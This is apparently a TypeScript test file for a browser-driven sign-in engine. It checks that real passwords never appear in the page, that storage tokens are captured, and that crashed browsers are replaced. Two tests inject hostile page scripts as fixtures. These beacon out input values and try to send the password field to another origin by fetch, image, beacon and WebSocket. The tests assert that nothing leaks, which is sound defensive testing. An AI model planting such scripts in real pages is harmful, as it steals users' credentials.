import { readFileSync } from 'node:fs'
import t from 'tap'
import { findChromium, wantedChromium } from '../chromium.ts'
import { startScriptedSite } from '../sites/scripts/scripted-site.ts'
import { serve } from '../sites/serve.ts'
import { signIn, siteFor, startEngine } from './engine-for-test.ts'

const skip = findChromium() === undefined ? wantedChromium : false
const password = 'correct "horse" & bättery'
const adapter = 'form-by-script'

t.test('sign-ins that need scripts', { skip }, async (t) => {
  // One for all: Chromium takes a second or more to start.
  const login = await startEngine(t)

  t.test('the probe chooses the browser where there is nothing else, and says why', async (t) => {
    const site = await startScriptedSite({ password })
    t.teardown(() => site.stop())
    const report = await login.probe(new URL(site.url))
    t.match(report, { ok: true, adapter, loginUrl: site.url, origins: [site.origin] })
    t.match(report.found.join('\n'), /asks for JavaScript and holds no sign-in form without it: it signs in by a browser on the relay/)
    const again = await login.probe(new URL(site.url), { adapter, settings: report.settings })
    t.match([again.ok, again.seen], [true, report.seen], 'a second look at a site enrolled so sees the same')
    t.match(report.seen, { user: 'User name', password: 'Password' })
    t.same(site.received, [], 'nothing was sent')
  })

  for (const area of ['local', 'session'] as const)
    t.test(`a sign-in that a script draws and posts: signed in, with the token of its ${area} storage`, async (t) => {
      const site = await startScriptedSite({ password, keepsIn: `${area}Storage` })
      t.teardown(() => site.stop())
      const visit = { url: site.url, username: 'ann', adapter }
      const outcome = await signIn(login, { ...visit, password })
      t.match(outcome, { ok: true, landingUrl: `${site.origin}/orders` })
      if (!outcome.ok) return
      t.match(outcome.storage, [{ origin: site.origin, area, key: 'token', value: /^[0-9a-f]{32}$/ }])
      t.match(outcome.headers, [{ name: 'Authorization', value: /^Bearer [0-9a-f]{32}$/, origins: [site.origin] }])
      const state = { site: siteFor(visit), ...outcome }
      t.ok(await login.isSignedIn(state), 'the session is put back into another browser')
      t.notOk(await login.isSignedIn({ ...state, storage: [] }))
    })

  t.test('the page holds a placeholder, never the password, not even where the site repeats it; a refusal is told once', async (t) => {
    const seen: string[] = []
    const extra = `setInterval(() => {
      const held = [...document.querySelectorAll('input')].map((it) => it.value).join(' ') + ' ' + document.body.innerText
      navigator.sendBeacon('/seen', btoa(unescape(encodeURIComponent(held))))
    }, 150)`
    const site = await startScriptedSite({ password, extra })
    t.teardown(() => site.stop())
    const outcome = await signIn(login, { url: site.url, username: 'ann', password: 'no such pässword', adapter })
    t.match(outcome, { ok: false, kind: 'wrong-password', sent: true, seen: [/Wrong password for ann: \[secret\]/] })
    t.same(site.book.outcomes, ['wrong-password'], 'it was sent once')
    for (const { path, body } of site.requests) if (path === '/seen') seen.push(Buffer.from(body.toString(), 'base64').toString())
    t.match(seen.join('\n'), /Aa1-[0-9a-f]{24}/)
    t.notMatch(seen.join('\n'), /no such p/)
  })

  t.test('a page gets nothing out but to the enrolled origins, the placeholder nowhere but in one body', async (t) => {
    const other = await serve(() => ({ headers: { 'access-control-allow-origin': '*' } }))
    t.teardown(() => other.stop())
    const extra = `
document.addEventListener('click', () => {
  const held = document.querySelector('input[type=password]').value
  for (const to of ['${other.origin}/fetch', '/pixel?p=' + held]) fetch(to, { method: 'POST', mode: 'no-cors', body: held })
  new Image().src = '${other.origin}/image?p=' + held
  navigator.sendBeacon('${other.origin}/beacon', held)
  new WebSocket('${other.origin.replace('http', 'ws')}/socket?p=' + held)
  document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: '${other.origin}' }))
}, true)`
    const site = await startScriptedSite({ password, extra })
    t.teardown(() => site.stop())
    const outcome = await signIn(login, { url: site.url, username: 'ann', password, adapter })
    t.match(outcome, { ok: true })
    t.same(other.requests, [], 'nothing arrived elsewhere')
    t.notOk(
      site.requests.some(({ path }) => path.startsWith('/pixel')),
      'nor in an address',
    )
    t.equal(site.received.length, 1)
    t.equal((JSON.parse(site.received[0] ?? '{}') as { b?: string }).b, password, 'the site got the password itself')
  })

  t.test('a script that hashes: nothing secret leaves by placeholder, and the declaration may have it typed', async (t) => {
    const site = await startScriptedSite({ password, sends: 'sha256' })
    t.teardown(() => site.stop())
    const visit = { url: site.url, username: 'ann', password, adapter }
    t.match(await signIn(login, visit), { ok: false, kind: 'form-not-found', sent: false, seen: [/no request of the page carried it/, /browser: type/] })
    t.match(await signIn(login, { ...visit, settings: { browser: 'type' } }), { ok: true })
  })

  t.test('a browser that crashes is replaced', async (t) => {
    const site = await startScriptedSite({ password })
    t.teardown(() => site.stop())
    const [crashed] = childrenOf(process.pid).filter((pid) => /chrom/.test(nameOf(pid)))
    t.ok(crashed, 'it is running')
    process.kill(crashed ?? 0, 'SIGKILL')
    const outcome = await signIn(login, { url: site.url, username: 'ann', password, adapter })
    t.match(outcome, { ok: true })
  })
})

t.test('without Chromium such a sign-in says what is missing, and the probe too', async (t) => {
  const site = await startScriptedSite()
  t.teardown(() => site.stop())
  const login = await startEngine(t, { settings: { browser: '/no/such/chromium' } })
  const outcome = await signIn(login, { url: site.url, username: 'ann', password, adapter })
  t.match(outcome, { ok: false, sent: false, seen: [/needs a browser on the relay/] })
  const report = await login.probe(new URL(site.url))
  t.match(report, { ok: false })
  t.match(report.found.join('\n'), /a browser on the relay would run it, but none is installed/)
  t.match(await login.probe(new URL(site.url), { adapter }), { ok: false, adapter })
})

function childrenOf(pid: number): number[] {
  const own = readFileSync(`/proc/${pid}/task/${pid}/children`, 'utf8').trim().split(' ').filter(Boolean).map(Number)
  return [...own, ...own.flatMap(childrenOf)]
}

function nameOf(pid: number): string {
  try {
    return readFileSync(`/proc/${pid}/comm`, 'utf8')
  } catch {
    return ''
  }
}
